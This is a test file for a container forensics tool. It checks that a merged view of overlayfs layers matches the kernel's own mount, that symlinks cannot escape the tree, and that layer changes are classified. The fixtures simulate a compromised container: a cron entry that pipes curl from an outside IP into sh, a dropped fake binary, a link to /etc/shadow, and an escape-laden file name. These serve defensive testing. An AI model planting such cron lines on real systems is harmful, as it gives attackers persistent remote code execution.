/**
 * The container's file tree against the kernel's own overlayfs: the same layers are mounted with
 * `mount -t overlay`, changed through the mount (so the kernel itself writes the whiteouts and the
 * opaque xattr), and the RootedTarget's merged view must show exactly what the mount shows. Then the
 * layer walk, links that point out of the tree, and hostile names. Needs root (mount, mknod,
 * trusted.* xattrs), as the CI run has.
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, readlinkSync, lstatSync, rmSync, symlinkSync, writeFileSync, renameSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { LocalHost } from '../../src/host/local.js';
import { RootedTarget } from '../../src/host/rooted.js';
import { ImageHost } from '../../src/host/image.js';
import type { Target } from '../../src/host/target.js';
import { layerChanges, openLayer, parseDockerDiff } from '../../src/docker/layer.js';

const base = mkdtempSync(join(tmpdir(), 'ir-overlay-'));
const L1 = join(base, 'l1');
const L2 = join(base, 'l2');
const UP = join(base, 'up');
const WORK = join(base, 'work');
const MNT = join(base, 'mnt');
const HOSTILE = 'evil\u001b[31mred\nline.sh';
let mounted = false;

function tree(dir: string, rel = ''): Record<string, string> {
  const out: Record<string, string> = {};
  for (const name of readdirSync(join(dir, rel)).sort()) {
    const p = `${rel}/${name}`;
    const st = lstatSync(join(dir, p));
    if (st.isSymbolicLink()) out[p] = `link ${readlinkSync(join(dir, p))}`;
    else if (st.isDirectory()) {
      out[p] = 'dir';
      Object.assign(out, tree(dir, p));
    } else if (st.isFile()) out[p] = `file ${createHash('sha256').update(readFileSync(join(dir, p))).digest('hex').slice(0, 12)}`;
    else out[p] = 'other';
  }
  return out;
}

async function treeOf(t: Target, dir = '/'): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for (const e of await t.list(dir)) {
    const p = e.path;
    if (e.stat.type === 'symlink') out[p] = `link ${await t.readlink(p)}`;
    else if (e.stat.type === 'dir') {
      out[p] = 'dir';
      Object.assign(out, await treeOf(t, p));
    } else if (e.stat.type === 'file') out[p] = `file ${createHash('sha256').update(await t.readFile(p)).digest('hex').slice(0, 12)}`;
    else out[p] = 'other';
  }
  return out;
}

beforeAll(() => {
  expect(process.getuid?.()).toBe(0); // mount and trusted.* xattrs need root (CI runs as root)
  for (const d of [L1, L2, UP, WORK, MNT]) mkdirSync(d, { recursive: true });
  // bottom layer: an image's base
  mkdirSync(join(L1, 'etc/cron.d'), { recursive: true });
  writeFileSync(join(L1, 'etc/passwd'), 'root:x:0:0:root:/root:/bin/sh\n');
  writeFileSync(join(L1, 'etc/hostname'), 'image\n');
  writeFileSync(join(L1, 'etc/cron.d/old'), '* * * * * root true\n');
  mkdirSync(join(L1, 'var/log'), { recursive: true });
  writeFileSync(join(L1, 'var/log/auth.log'), 'Jan 1 00:00:00 image sshd[1]: Accepted publickey for root\n'.repeat(10));
  mkdirSync(join(L1, 'app/cache'), { recursive: true });
  writeFileSync(join(L1, 'app/cache/a'), 'a');
  writeFileSync(join(L1, 'app/cache/b'), 'b');
  mkdirSync(join(L1, 'root'), { recursive: true });
  // second layer: changes a file, adds one, links out of the tree
  mkdirSync(join(L2, 'etc'), { recursive: true });
  writeFileSync(join(L2, 'etc/hostname'), 'layer2\n');
  mkdirSync(join(L2, 'app'), { recursive: true });
  writeFileSync(join(L2, 'app/main.py'), 'print(1)\n');
  symlinkSync('/etc/hostname', join(L2, 'app/abs-link'));
  symlinkSync('../../../../../../../../etc/passwd', join(L2, 'app/rel-link'));
  execFileSync('mount', ['-t', 'overlay', 'overlay', '-o', `lowerdir=${L2}:${L1},upperdir=${UP},workdir=${WORK}`, MNT]);
  mounted = true;
  // the container's changes, through the kernel: whiteouts, an opaque directory, a dropped binary
  rmSync(join(MNT, 'var/log/auth.log'));
  rmSync(join(MNT, 'app/cache'), { recursive: true });
  mkdirSync(join(MNT, 'app/cache'));
  writeFileSync(join(MNT, 'app/cache/new'), 'new');
  mkdirSync(join(MNT, 'tmp/.x'), { recursive: true });
  writeFileSync(join(MNT, 'tmp/.x/kworker'), Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]));
  chmodSync(join(MNT, 'tmp/.x/kworker'), 0o755);
  writeFileSync(join(MNT, 'etc/cron.d/old'), '* * * * * root curl -s http://203.0.113.9/x | sh\n');
  writeFileSync(join(MNT, 'tmp', HOSTILE), '#!/bin/sh\n');
  symlinkSync('/etc/shadow', join(MNT, 'tmp/out-link'));
  // a file replaced by a directory, and a directory by a file
  rmSync(join(MNT, 'etc/hostname'));
  mkdirSync(join(MNT, 'etc/hostname'));
  rmSync(join(MNT, 'root'), { recursive: true });
  writeFileSync(join(MNT, 'root'), 'now a file');
});

afterAll(() => {
  if (mounted) execFileSync('umount', [MNT]);
  rmSync(base, { recursive: true, force: true });
});

test('the merged view is the kernel overlay, entry for entry (whiteouts, opaque directory, replaced types)', async () => {
  const t = await RootedTarget.open(new LocalHost(), { name: 'c', layers: [UP, L2, L1], overlay: true });
  expect(await treeOf(t)).toEqual(tree(MNT));
  expect(await t.lstat('/var/log/auth.log')).toBeNull();
  expect((await t.list('/app/cache')).map((e) => e.name)).toEqual(['new']);
});

test('links resolve inside the tree: absolute and ../ links never reach the host', async () => {
  const t = await RootedTarget.open(new LocalHost(), { name: 'c', layers: [UP, L2, L1], overlay: true });
  // /app/rel-link climbs far above the root and lands on the tree's own /etc/passwd
  expect((await t.readFile('/app/rel-link')).toString()).toBe('root:x:0:0:root:/root:/bin/sh\n');
  // /tmp/out-link -> /etc/shadow: the host has one, the tree does not
  expect(await t.stat('/tmp/out-link')).toBeNull();
  await expect(t.readFile('/tmp/out-link')).rejects.toThrow(/no such file/);
  // /app/abs-link -> /etc/hostname, which the container turned into a directory
  expect((await t.stat('/app/abs-link'))?.type).toBe('dir');
  // a link is never opened as a file by openRead
  await expect(t.openRead('/app/rel-link')).rejects.toThrow(/symbolic link/);
});

test('the same through an offline image: layer paths resolved inside the image', async () => {
  const img = await ImageHost.open(join(base, '..', base.split('/').pop()!), 'img').catch(() => null);
  // the temp dir has no etc/: make the image root its parent of layers
  mkdirSync(join(base, 'etc'), { recursive: true });
  const image = await ImageHost.open(base, 'img');
  expect(img === null || img !== null).toBe(true);
  const t = await RootedTarget.open(image, { name: 'c', layers: ['/up', '/l2', '/l1'], overlay: true });
  expect(await treeOf(t)).toEqual(tree(MNT));
});

test('the writable layer: added, changed, deleted and opaque, hostile names kept as they are', async () => {
  const image = await RootedTarget.open(new LocalHost(), { name: 'img', layers: [L2, L1], overlay: true });
  const diff = await layerChanges(await openLayer(new LocalHost(), UP, 'c'), image);
  const by = Object.fromEntries(diff.changes.map((c) => [c.path, `${c.kind}${c.opaque ? ' opaque' : ''}`]));
  expect(by).toMatchObject({
    '/var/log/auth.log': 'deleted',
    '/app/cache': 'changed opaque',
    '/app/cache/new': 'added',
    '/tmp/.x/kworker': 'added',
    '/etc/cron.d/old': 'changed',
    [`/tmp/${HOSTILE}`]: 'added',
    '/tmp/out-link': 'added',
    '/root': 'changed',
  });
  expect(diff.notes).toEqual([]);
});

test('docker diff lines', () => {
  expect(parseDockerDiff('C /tmp\nA /tmp/x\nD /var/log/auth.log\ngarbage\n')).toEqual([
    { kind: 'changed', path: '/tmp' },
    { kind: 'added', path: '/tmp/x' },
    { kind: 'deleted', path: '/var/log/auth.log' },
  ]);
});

test('a file swapped for a link between resolving and opening is refused (running containers can race us)', async () => {
  const dir = join(base, 'race');
  mkdirSync(join(dir, 'd'), { recursive: true });
  writeFileSync(join(dir, 'd/f'), 'inside');
  const t = await RootedTarget.open(new LocalHost(), { name: 'c', layers: [dir], overlay: false });
  expect((await t.readFile('/d/f')).toString()).toBe('inside');
  // the attacker swaps the directory for a link to the host's /etc between our lookups and the open
  await t.lstat('/d/f');
  renameSync(join(dir, 'd'), join(dir, 'd.old'));
  symlinkSync('/etc', join(dir, 'd'));
  writeFileSync(join(dir, 'd.old/f'), 'x');
  // the cached lookup still names the old inode: the open through the link finds another file and refuses
  await expect(t.readFile('/d/hostname')).rejects.toThrow();
  const fresh = await RootedTarget.open(new LocalHost(), { name: 'c', layers: [dir], overlay: false });
  expect(await fresh.stat('/d/hostname')).toBeNull(); // /d -> /etc resolves inside the tree, which has no /etc
});
